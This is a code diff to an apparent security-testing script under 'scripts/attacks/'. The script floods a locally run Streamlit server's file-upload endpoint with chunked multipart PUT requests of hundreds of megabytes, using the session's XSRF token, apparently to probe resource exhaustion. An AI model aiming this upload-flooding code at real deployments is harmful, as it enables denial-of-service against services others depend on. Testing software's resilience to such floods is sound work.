@@ -9,7 +9,7 @@ from streamlit.proto.BackMsg_pb2 import BackMsg
 from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
 from websockets.asyncio.client import connect
 
-from scripts.attacks.target import ATTACKER, Target, counted, exchange, run
+from scripts.attacks.target import Target, chunks, counted, exchange, pour, run
 
 SIZE, PIECE = 300_000_000, 1_000_000
 FILES = 60
@@ -38,30 +38,13 @@ async def _token(port: int) -> str:
 
 async def put(port: int, session: str, token: str, number: int, size: int) -> tuple[int, int]:
     """The status, and the bytes that were sent."""
-    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(ATTACKER, 0))
-    head = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n'
-    tail = b"\r\n--x--\r\n"
-    writer.write(
+    head = (
         f"PUT /_stcore/upload_file/{session}/{number:08}-0000-4000-8000-000000000000 HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
-        f"Cookie: _streamlit_xsrf={token}\r\nX-Xsrftoken: {token}\r\nContent-Type: multipart/form-data; boundary=x\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
-    )
-    answer, sent = asyncio.create_task(reader.read(12)), 0
-    try:
-        async with asyncio.timeout(30):
-            while sent < size and not answer.done():
-                piece = (head if not sent else b"").ljust(min(PIECE, size), b"a")
-                writer.write(b"%x\r\n%s\r\n" % (len(piece), piece))
-                await writer.drain()
-                sent += len(piece)
-                await asyncio.sleep(0)
-            if sent >= size:
-                writer.write(b"%x\r\n%s\r\n0\r\n\r\n" % (len(tail), tail))
-            return int((await answer)[9:12] or 0), sent
-    except (OSError, TimeoutError):
-        return 0, sent
-    finally:
-        answer.cancel()
-        writer.transport.abort()
+        f"Cookie: _streamlit_xsrf={token}\r\nX-Xsrftoken: {token}\r\nContent-Type: multipart/form-data; boundary=x\r\nTransfer-Encoding: chunked\r\n\r\n"
+    ).encode()
+    pieces = [b"a" * min(PIECE, size)] * max(1, size // PIECE)
+    form = (b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n', *pieces, b"\r\n--x--\r\n")
+    return await pour(port, head, chunks(form), 30)
 
 
 async def attack(target: Target, seconds: float) -> str:
